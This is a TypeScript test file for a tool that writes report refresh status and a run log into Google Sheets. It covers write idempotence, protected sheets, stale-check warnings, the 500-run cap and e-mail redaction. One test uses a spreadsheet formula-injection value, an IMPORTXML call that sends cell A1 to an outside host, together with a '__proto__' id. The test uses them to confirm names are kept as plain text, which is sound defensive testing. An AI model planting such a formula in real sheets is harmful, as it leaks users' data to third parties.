import fc from 'fast-check';
import { logColumns, logTable, MOST_RUNS } from '../../../src/reports/status/run-log-table';
import type { LoggedRun } from '../../../src/reports/store/run-records';
import { type SheetCell, toSheetCell } from '../../../src/table/sheet-cell';
import { VERSION } from '../../../src/version';
import { FakeClock } from '../../fakes/clock';
import { formatTime } from '../../fakes/format-time';
import { EmulatedSheets } from '../../fakes/sheets/emulated-sheets';
import { HOUR, type LogsOrder, loggedRun, logsOf, NOW, savedReport, withRows } from './logs-file';

const STATUS = 'Refresh status';
const LOG = 'Run log';
const RUN = logColumns().findIndex(({ field }) => field === 'run');
const TIME = { timeZone: 'Europe/Berlin', formatTime };

const ORDER = {
  status: [savedReport('r1'), savedReport('r2', { name: 'Retention' })],
  runs: [loggedRun(2), loggedRun(1, { report: 'Retention' })],
} satisfies LogsOrder;

function writtenLogs(order: Partial<LogsOrder> = ORDER) {
  const sheet = new EmulatedSheets();
  const clock = new FakeClock(NOW);
  const write = logsOf(sheet, clock);
  expect(write(order)).toEqual([]);
  const rows = (title: string) => sheet.shown(title).slice(2);
  const column = (title: string, index: number) => rows(title).map((row) => row[index]);
  return { sheet, clock, write, rows, column };
}

/** The rows of the log as a sheet holds them, after these runs are added to `existing` rows. */
function logged(existing: readonly (readonly SheetCell[])[], runs: readonly LoggedRun[]): SheetCell[][] {
  const { columns, rows } = logTable(existing, runs, TIME);
  return rows.map((row) => columns.map(({ type }, index) => toSheetCell(row[index]!, type)));
}

const idsOf = (rows: readonly (readonly SheetCell[])[]) => rows.map((row) => row[RUN]);

describe('the logs of a file', () => {
  it('are two sheets, each with a line above the headers that describes it', () => {
    const { sheet, column } = writtenLogs();
    expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', STATUS, LOG]);
    expect(sheet.shown(STATUS)[0]![0]).toBe('Refresh status · times in Europe/Berlin');
    expect(sheet.shown(LOG)[0]).toEqual([
      'Run log · the last 500 runs, newest first · times in Europe/Berlin',
    ]);
    expect([column(STATUS, 0), column(LOG, 3)]).toEqual([
      ['Report r1', 'Retention'],
      ['Retention', 'Daily revenue'],
    ]);
  });

  it('change no cell when they are written again, and only cells that differ', () => {
    const { sheet, clock, write } = writtenLogs();
    const before = sheet.snapshot();
    for (let nth = 0; nth < 10; nth++) {
      clock.pass(HOUR / 10);
      write(ORDER);
    }
    expect([sheet.batches.length, sheet.snapshot()]).toEqual([3, before]);
    write({ ...ORDER, status: [withRows('r1', 121), ORDER.status[1]!] });
    expect(JSON.stringify(sheet.batches[3]).match(/numberValue|stringValue/g)).toHaveLength(1);
  });

  it('contain names as texts, even if they look like formulas', () => {
    const name = '=IMPORTXML("https://x.test/"&A1,"//a")';
    const { sheet, column } = writtenLogs({
      status: [savedReport('r1', { name }), savedReport('__proto__', { name: '+1' })],
      runs: [loggedRun(1, { report: name })],
    });
    expect([column(STATUS, 0), column(LOG, 3)]).toEqual([[name, '+1'], [name]]);
    expect(JSON.stringify(sheet.batches).match(/formulaValue/g)).toHaveLength(1);
  });

  it('are written for one sheet if Google refuses to change the other, and a sentence says which', () => {
    const sheet = new EmulatedSheets();
    sheet.beforeAndAfter = (batch) => {
      if (batch === 0) throw new Error('You are trying to edit a protected cell or object.');
    };
    expect(logsOf(sheet)(ORDER)).toEqual([
      expect.stringMatching(
        /^Refresh status: Google does not let the user of this run change the sheet, because it is protected/,
      ),
    ]);
    expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', LOG]);
  });

  it('show for how many days no hourly check has run, when no code runs any more', () => {
    const sheets = new EmulatedSheets();
    let now = NOW;
    sheets.store.now = () => now;
    const sentence = () => sheets.shown("'Refresh status'!D1:D1")[0]?.[0] ?? '';
    const sentences = (hours: readonly number[]) =>
      hours.map((hour) => {
        now = NOW + hour * HOUR;
        return sentence();
      });
    logsOf(sheets)({ status: [savedReport('r1'), savedReport('r2', { lastChecked: NOW - 30 * HOUR })] });
    const words = (days: number) =>
      `Days without a check: ${days}. The numbers may be old: open Ad Reports ▸ Open.`;
    expect(sentences([0, 23, 25, 46, 71])).toEqual(['', '', words(1), words(2), words(3)]);
    logsOf(sheets)({ status: [savedReport('r1', { nextRun: null })] });
    expect(sentences([900])).toEqual(['']);
  });
});

describe('the run log', () => {
  it('shows the time, the days, the changed rows and the result of a run', () => {
    const run = loggedRun(1, { result: 'failed', sentence: 'The service refused the report key.' });
    const { columns, rows } = logTable([], [run], TIME);
    expect(Object.fromEntries(columns.map(({ label }, index) => [label, rows[0]![index]]))).toEqual({
      Started: 46347 + 3 / 24,
      Ended: 46347.12513889,
      Seconds: 12,
      Report: 'Daily revenue',
      How: 'By schedule',
      From: '2026-11-17',
      To: '2026-11-19',
      Calls: 3,
      'Rows inserted': 10,
      'Rows changed': 4,
      'Rows deleted': 0,
      Restated: 6,
      Result: 'Failed',
      Note: 'The service refused the report key.',
      Version: VERSION,
      Run: 'run1',
    });
  });

  it('contains 500 runs: the oldest are removed, and rows of the user do not count', () => {
    const existing = logged(
      [],
      Array.from({ length: MOST_RUNS }, (_, nth) => loggedRun(nth + 2)),
    );
    const note = logColumns().map((_, column) => (column === 3 ? 'Closed October here' : ''));
    existing.splice(1, 0, note);
    const more = logged(existing, [loggedRun(1)]);
    expect([more.length, idsOf(more)[0], more.at(-1)]).toEqual([MOST_RUNS + 1, 'run1', note]);
    expect(idsOf(more)).not.toContain('run501');
  });

  it('contains no e-mail address and no long text', () => {
    const sentence = `ana.b+c@mail.example.com is running this report. ${'x'.repeat(1000)}`;
    const [row] = logged([], [loggedRun(1, { report: 'Revenue (ana@example.com)', sentence })]);
    expect(row![3]).toBe('Revenue (somebody)');
    expect(row![13]).toMatch(/^somebody is running this report\. x+…$/);
    expect(String(row![13]).length).toBeLessThanOrEqual(300);
  });

  it('has the same rows, newest first, if runs are added one by one, all at once or again', () => {
    const ids = fc.uniqueArray(fc.integer({ min: 1, max: 999 }), { maxLength: 20 });
    fc.assert(
      fc.property(ids, fc.nat(20), (hours, cut) => {
        const runs = hours.map((nth) => loggedRun(nth));
        const parts = logged(logged([], runs.slice(0, cut)), runs.slice(cut));
        expect(idsOf(parts)).toEqual([...hours].sort((a, b) => a - b).map((nth) => `run${nth}`));
        expect(parts).toEqual(logged([], runs));
        expect(logged(parts, runs)).toEqual(parts);
      }),
    );
  });
});
